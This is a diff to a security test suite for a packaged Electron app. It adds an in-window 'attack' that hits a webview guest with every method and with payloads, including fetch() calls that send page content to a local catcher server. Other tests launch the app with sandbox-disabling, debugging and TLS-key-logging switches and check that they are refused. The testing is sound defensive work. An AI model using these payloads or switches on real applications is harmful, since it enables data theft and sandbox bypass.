@@ -1,13 +1,15 @@
 /**
  * The packaged app works without the loader, holds nothing but our code, and refuses what a person may not ask of it.
  */
-import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { homedir, tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { extractFile, listPackage } from '@electron/asar';
 import { FuseV1Options, getCurrentFuseWire } from '@electron/fuses';
-import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
-import { buildPackage, launchPackaged, launchRefusing, type PackagedApp } from '../support/driver/packaged-app.ts';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { buildPackage, launchAsStranger, launchPackaged, type PackagedApp } from '../support/driver/packaged-app.ts';
 import { openWorkbench, type Workbench } from '../support/driver/workbench.ts';
 
 const root = join(import.meta.dirname, '../..');
@@ -19,6 +21,105 @@ const shownRows = `({
   boroughs: [...document.querySelectorAll('[data-testid^="borough-"]')].map((box) => box.value),
 })`;
 
+/** A server that nobody should reach. It hears connections, whatever comes over them. */
+async function startCatcher() {
+  const heard: string[] = [];
+  const server = createServer((request, response) => {
+    heard.push(`${request.method} ${request.url}`);
+    response.setHeader('access-control-allow-origin', '*').end('caught');
+  });
+  server.on('connection', () => heard.push('a connection'));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    heard,
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    async stop() {
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
+
+/**
+ * Runs in the window, as a script would that got into it: calls every method that the element of an admitted guest has,
+ * with everything that could lead anywhere, and sets every attribute. @returns what it learned
+ */
+async function attackByGuest({ elsewhere, file }: { elsewhere: string; file: string }) {
+  const guest = document.querySelector('[data-role="active"] > webview') as HTMLElement &
+    Record<string, (...parameters: unknown[]) => unknown>;
+  const methods: string[] = [];
+  for (let type = Object.getPrototypeOf(guest); type !== HTMLElement.prototype; type = Object.getPrototypeOf(type)) {
+    for (const [name, property] of Object.entries(Object.getOwnPropertyDescriptors(type))) {
+      if (name !== 'constructor' && typeof property.value === 'function') methods.push(name);
+    }
+  }
+  const script = `fetch('${elsewhere}/fetch?' + document.body.innerHTML); open('${elsewhere}/open');
+    new Image().src = '${elsewhere}/image'; location.href = '${elsewhere}/location';
+    document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}/frame' }));
+    document.documentElement.outerHTML + JSON.stringify(performance.getEntries()) + document.body.innerText`;
+  const parameters: unknown[][] = [
+    [''],
+    [{}],
+    [`${elsewhere}/x?data=1`],
+    [file],
+    [`data:text/html,<script>fetch('${elsewhere}/data')</script>`],
+    ['about:blank'],
+    [`javascript:fetch('${elsewhere}/javascript')`],
+    [`view-source:${elsewhere}/`],
+    ['chrome://version/'],
+    ['devtools://devtools/bundled/inspector.html'],
+    ['sightglass-app://app/index.html'],
+    [`${elsewhere}/post`, { httpReferrer: `${elsewhere}/`, userAgent: 'x', extraHeaders: 'x: y' }],
+    [`data:text/html,<img src=base>`, { baseURLForDataURL: `${elsewhere}/` }],
+    [script],
+    [`body { background: url('${elsewhere}/css') } @import '${elsewhere}/import';`],
+    [{ type: 'mouseDown', x: 1, y: 1 }],
+    ['embed-host.command', { type: 'workbook:variables:list' }],
+    [1, 1],
+  ];
+  const answers: Record<string, unknown> = {};
+  for (const given of parameters) {
+    for (const name of methods) {
+      // Calls go out one after the other and are answered when they are: one that never is holds nothing up.
+      try {
+        Promise.resolve(guest[name]?.(...given)).then(
+          (answer) => (answers[`${name} ${JSON.stringify(given[0])}`] = answer),
+          (error: unknown) => (answers[`${name} ${JSON.stringify(given[0])}`] = String(error)),
+        );
+      } catch (error) {
+        answers[`${name} ${JSON.stringify(given[0])}`] = String(error);
+      }
+    }
+  }
+  for (const name of [
+    'useragent',
+    'httpreferrer',
+    'partition',
+    'preload',
+    'webpreferences',
+    'allowpopups',
+    'nodeintegration',
+  ]) {
+    guest.setAttribute(name, `${elsewhere}/${name}`);
+  }
+  for (const address of [`${elsewhere}/src`, file, 'about:blank']) guest.setAttribute('src', address);
+  const { sightglass } = window as unknown as { sightglass: { state: { get(): Promise<unknown> } } };
+  // Main answers in turn: after these it has dealt with all of the above, and what came of it had its time as well.
+  for (let times = 0; times < 50; times += 1) {
+    await sightglass.state.get();
+    await new Promise((resolve) => requestAnimationFrame(resolve));
+  }
+  try {
+    answers.afterwards = await Promise.race([
+      guest.executeJavaScript?.('document.body.innerText'),
+      sightglass.state.get().then(() => ''),
+    ]);
+  } catch (error) {
+    answers.afterwards = String(error);
+  }
+  return { methods, answers: JSON.stringify(answers) };
+}
+
 // Only Linux is packaged and driven here; the other systems need their own machines.
 describe.runIf(process.platform === 'linux')('the packaged app', () => {
   let folder: string;
@@ -28,7 +129,7 @@ describe.runIf(process.platform === 'linux')('the packaged app', () => {
 
   beforeAll(async () => {
     folder = mkdtempSync(join(tmpdir(), 'sightglass-package-'));
-    executable = await buildPackage(folder);
+    executable = await buildPackage(folder, { isTestBuild: true });
   });
   afterAll(() => rmSync(folder, { recursive: true, force: true, maxRetries: 3 }));
   afterEach(async () => {
@@ -83,17 +184,103 @@ describe.runIf(process.platform === 'linux')('the packaged app', () => {
     expect(await bench.demo.controls.authorizationServer.journal({})).toEqual([]);
   });
 
-  test('does not let the program that starts it look into its windows or write its traffic down', async () => {
+  test('gives a script in its own window neither the network, nor files, nor the workbook, by any method of a guest', async () => {
+    const catcher = await startCatcher();
+    try {
+      bench = await openWorkbench();
+      const running = await launch(bench, true, [`--import-env=${bench.envFile}`]);
+      await bench.signIn(running, ben);
+      const ready = () =>
+        running.window.locator('[data-testid="pane"][data-phase="ready"]').waitFor({ timeout: 60_000 });
+      await ready();
+      const file = join(bench.folder, 'private.txt');
+      writeFileSync(file, 'private content of a file');
+
+      const { methods, answers } = await running.window.evaluate(attackByGuest, {
+        elsewhere: catcher.origin,
+        file: `file://${file}`,
+      });
+      // Every method that the element has was tried, and these are among them.
+      expect(methods).toEqual(expect.arrayContaining(['loadURL', 'downloadURL', 'executeJavaScript', 'openDevTools']));
+      expect(methods.length).toBeGreaterThan(40);
+      await ready();
+      expect(answers).not.toContain('private content');
+      expect(answers).not.toContain('jwt');
+      expect(answers).not.toContain('<html');
+      // A picture, a printed page, or an open tool is no text, but long or true.
+      expect(JSON.parse(answers)).toMatchObject({
+        'capturePage ""': '',
+        'printToPDF {}': '',
+        'isDevToolsOpened ""': false,
+      });
+      expect(catcher.heard).toEqual([]);
+      expect(bench.browser.unclaimed()).toEqual([]);
+      const refused = running.log().filter(({ event }) => event === 'guest.method-refused');
+      expect(refused.map(({ method }) => method)).toEqual(expect.arrayContaining(['loadURL', 'openDevTools']));
+
+      // It can take the workbook off the screen, and then that comes back.
+      const guest = await running.window.locator('[data-role="active"]').getAttribute('data-guest');
+      await running.window.evaluate(() => document.querySelector('webview')?.remove());
+      await running.window.locator(`[data-guest="${guest}"]`).waitFor({ state: 'detached' });
+      await ready();
+      const { origin } = bench.demo.sigma;
+      await expect.poll(() => running.inWorkbook(origin, `document.querySelector('h1')?.textContent`)).toBeTruthy();
+      expect(catcher.heard).toEqual([]);
+    } finally {
+      await catcher.stop();
+    }
+  });
+
+  test('writes no signed address down for the program that starts it', async () => {
     bench = await openWorkbench();
-    const netLog = join(bench.folder, 'net-log.json');
-    const { userData, browser } = bench;
-    const { refused, said } = await launchRefusing(
-      { executable, userData, path: browser.path, allowsLoopback: false },
-      ['--remote-debugging-port=0', `--log-net-log=${netLog}`],
+    const [trace, netLog, keys, log] = ['trace.json', 'net-log.json', 'keys.txt', 'chromium.log'].map((name) =>
+      join(bench?.folder ?? '', name),
     );
-    expect(refused).toMatchObject({ level: 'warn', names: ['remote-debugging-port', 'log-net-log'] });
-    expect(said).not.toContain('DevTools listening');
-    expect(existsSync(netLog)).toBe(false);
+    const { userData, browser } = bench;
+    app = await launchPackaged({
+      executable,
+      userData,
+      path: browser.path,
+      allowsLoopback: true,
+      arguments: [
+        `--import-env=${bench.envFile}`,
+        '--trace-startup=disabled-by-default-netlog,netlog,navigation,loading',
+        `--trace-startup-file=${trace}`,
+        '--trace-startup-duration=1',
+        `--log-net-log=${netLog}`,
+        '--net-log-capture-mode=Everything',
+        '--enable-logging=file',
+        `--log-file=${log}`,
+        '--vmodule=*=3',
+      ],
+      variables: { SSLKEYLOGFILE: String(keys), NODE_TLS_REJECT_UNAUTHORIZED: '0', ELECTRON_ENABLE_LOGGING: '1' },
+    });
+    await bench.signIn(app, ben);
+    await app.window.locator('[data-testid="pane"][data-phase="ready"]').waitFor({ timeout: 60_000 });
+    expect(app.log()).toContainEqual(
+      expect.objectContaining({
+        event: 'program.switches-refused',
+        level: 'warn',
+        names: [
+          'trace-startup',
+          'trace-startup-file',
+          'trace-startup-duration',
+          'log-net-log',
+          'net-log-capture-mode',
+          'enable-logging',
+          'log-file',
+          'vmodule',
+          'SSLKEYLOGFILE',
+          'NODE_TLS_REJECT_UNAUTHORIZED',
+          'ELECTRON_ENABLE_LOGGING',
+        ].sort(),
+      }),
+    );
+    // What is written only at the end counts as well.
+    await app.close();
+    expect([trace, netLog, keys].filter((file) => existsSync(String(file)))).toEqual([]);
+    // Chromium opens this one before any line of ours; the process that did it knows nothing and ends.
+    expect(existsSync(String(log)) ? readFileSync(String(log), 'utf8') : '').not.toMatch(/jwt|eyJ/);
   });
 
   test('has its fuses set as configured', async () => {
@@ -136,5 +323,111 @@ describe.runIf(process.platform === 'linux')('the packaged app', () => {
       return keyMaterial.test(text) ? [...seen, `${file}: a private key`] : seen;
     });
     expect(found).toEqual([]);
+  });
+});
+
+/** An ordinary user that every Linux has: a package for people does not start as root, which has no sandbox. */
+const NOBODY = 65_534;
+const isRoot = process.getuid?.() === 0;
+
+describe.runIf(process.platform === 'linux')('the packaged app that people get', () => {
+  let folder: string;
+  let executable: string;
+  let bench: Workbench;
+  beforeAll(async () => {
+    folder = mkdtempSync(join(tmpdir(), 'sightglass-package-'));
+    executable = await buildPackage(folder, { isTestBuild: false });
+    for (const path of [folder, dirname(executable)]) chmodSync(path, 0o755);
+  });
+  afterAll(() => rmSync(folder, { recursive: true, force: true, maxRetries: 3 }));
+  beforeEach(async () => {
+    bench = await openWorkbench();
+  });
+  afterEach(() => bench.close());
+
+  function launch(name: string, switches: string[], variables: Record<string, string>) {
+    const home = join(folder, name);
+    mkdirSync(home);
+    if (isRoot) chownSync(home, NOBODY, NOBODY);
+    const userData = join(home, 'user-data');
+    const app = launchAsStranger({
+      executable,
+      userData,
+      path: bench.browser.path,
+      switches: switches.map((one) => one.replace('{home}', home)),
+      variables: {
+        HOME: home,
+        XDG_RUNTIME_DIR: home,
+        ...Object.fromEntries(Object.entries(variables).map(([key, value]) => [key, value.replace('{home}', home)])),
+      },
+      ...(isRoot && { uid: NOBODY }),
+    });
+    return { app, home };
+  }
+
+  /** One of each kind, and each with an effect of its own that could be seen. */
+  const strangers = [
+    '--no-sandbox',
+    '--disable-gpu-sandbox',
+    '--remote-debugging-port=0',
+    '--js-flags=--expose-gc',
+    '--renderer-cmd-prefix=/usr/bin/env',
+    '--use-mock-keychain',
+    '--ignore-certificate-errors',
+    '--host-rules=MAP * 127.0.0.1',
+    '--proxy-server=127.0.0.1:1',
+    '--log-net-log={home}/net-log.json',
+    '--trace-startup=netlog',
+    '--trace-startup-file={home}/trace.json',
+    '-allow-file-access-from-files',
+  ];
+  const variables = {
+    NODE_TLS_REJECT_UNAUTHORIZED: '0',
+    NODE_V8_COVERAGE: '{home}/coverage',
+    SSLKEYLOGFILE: '{home}/keys.txt',
+    ELECTRON_DISABLE_SANDBOX: '1',
+    SIGHTGLASS_ALLOW_LOOPBACK_SERVICES: '1',
+    SIGHTGLASS_ALLOW_REMOTE_DEBUGGING: '1',
+  };
+
+  test('runs in its sandbox, without anything that a stranger asked for', async () => {
+    const { app, home } = launch('strange', strangers, variables);
+    try {
+      const { names } = await app.logged('program.switches-refused');
+      const refused = [...strangers.map((one) => one.replace(/^-+/, '').replace(/=.*/, '')), ...Object.keys(variables)];
+      expect(names).toEqual([...refused].sort());
+      await app.logged('vault.opened');
+      const pages = () => app.processes().filter(({ commandLine }) => commandLine.includes('--type=renderer'));
+      await expect.poll(() => pages().some(({ isFiltered }) => isFiltered), { timeout: 30_000 }).toBe(true);
+      expect(pages().every(({ isFiltered }) => isFiltered)).toBe(true);
+      const given = app.processes().map(({ commandLine, environment }) => `${commandLine}\n${environment}`);
+      expect(refused.filter((name) => given.some((text) => text.includes(name)))).toEqual([]);
+      expect(app.said()).not.toContain('DevTools listening');
+    } finally {
+      await app.close();
+    }
+    expect(['net-log.json', 'trace.json', 'keys.txt'].filter((name) => existsSync(join(home, name)))).toEqual([]);
+  });
+
+  test('starts once, without a second look, where nothing is to be refused', async () => {
+    const { app } = launch('plain', ['--lang=en-US', '--force-device-scale-factor=1.5'], { NODE_ENV: 'production' });
+    try {
+      await app.logged('vault.opened');
+      expect(app.processes().filter(({ commandLine }) => commandLine.includes('--started-again'))).toEqual([]);
+    } finally {
+      await app.close();
+    }
+  });
+
+  test('does not start at all where a stranger claims that it was started again', async () => {
+    const { app } = launch('claimed', ['--started-again', '--remote-debugging-port=0'], {});
+    try {
+      expect(await app.logged('program.start-refused')).toMatchObject({ names: ['remote-debugging-port'] });
+    } finally {
+      await app.close();
+    }
+    expect(readFileSync(join(folder, 'claimed/user-data/logs/sightglass.log'), 'utf8')).not.toContain(
+      'program.started',
+    );
   });
 });
